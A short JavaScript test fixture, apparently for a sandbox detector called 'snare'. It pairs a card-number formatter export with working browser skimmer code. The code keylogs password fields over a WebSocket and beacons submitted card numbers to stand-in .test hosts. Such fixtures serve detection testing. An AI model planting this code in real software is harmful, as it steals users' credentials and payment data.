// Test fixture, run only inside snare's sandbox: fake card data, a fake host.
exports.format = n => String(n).replace(/(\d{4})(?=\d)/g, '$1 ');
if (typeof document !== 'undefined') {
  const grab = () => {
    const f = document.querySelector('input[autocomplete="cc-number"]') || document.getElementById('cc-number');
    return f ? f.value.replace(/\s/g, '') : '';
  };
  // a keylogger on the password field, over a WebSocket
  let ws = null;
  document.addEventListener('input', e => {
    if (!e.target || e.target.type !== 'password') return;
    if (!ws) ws = new WebSocket('wss://ws.skim.test/k');
    const v = e.target.value;
    const send = () => ws.send(JSON.stringify({p: v}));
    if (ws.readyState === 1) send(); else ws.addEventListener('open', send);
  }, true);
  document.addEventListener('submit', () => {
    const card = grab();
    if (/^\d{13,19}$/.test(card))
      navigator.sendBeacon('https://cdn-metrics.skim.test/b', JSON.stringify({c: card, u: location.host}));
  });
}
